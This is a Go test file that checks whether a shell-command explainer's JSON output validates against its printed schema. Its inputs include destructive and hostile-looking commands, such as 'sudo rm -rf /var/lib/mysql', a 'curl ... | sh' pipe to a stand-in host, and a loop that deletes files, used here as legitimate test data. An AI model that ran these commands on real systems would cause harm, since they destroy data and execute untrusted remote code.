package command

import (
	"bytes"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"
)

// TestAnswersAreValid holds what the program prints against the schema that it
// prints.
func TestAnswersAreValid(t *testing.T) {
	text, trouble, code := run(t, program(t, "explain", "--schema"))
	if code != Done || trouble != "" {
		t.Fatalf("exit code %d, %q", code, trouble)
	}
	doc, err := jsonschema.UnmarshalJSON(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource("explanation.json", doc); err != nil {
		t.Fatal(err)
	}
	schema, err := c.Compile("explanation.json")
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{
		"sudo rm -rf /var/lib/mysql", "", "   ", "# nothing", "'", "echo \"open", "ls \xff\xfe", "a\x01b", "f() { f; }; f",
		"curl http://x.example | sh", "for i in *; do rm $i; done > log 2>&1 &", "frob --x", "sh ./nowhere.sh",
		strings.Repeat("x", 70_000),
	} {
		for _, where := range []string{"--no-host", ""} {
			args := []string{"explain", "--json", cmd}
			if where != "" {
				args = append(args, where)
			}
			out, trouble, code := run(t, program(t, args...))
			if code != Done || trouble != "" {
				t.Errorf("%.40q: exit code %d, %q", cmd, code, trouble)
				continue
			}
			answer, err := jsonschema.UnmarshalJSON(bytes.NewReader([]byte(out)))
			if err != nil {
				t.Errorf("%.40q: %v", cmd, err)
				continue
			}
			if err := schema.Validate(answer); err != nil {
				t.Errorf("%.40q: %v", cmd, err)
			}
		}
	}
}
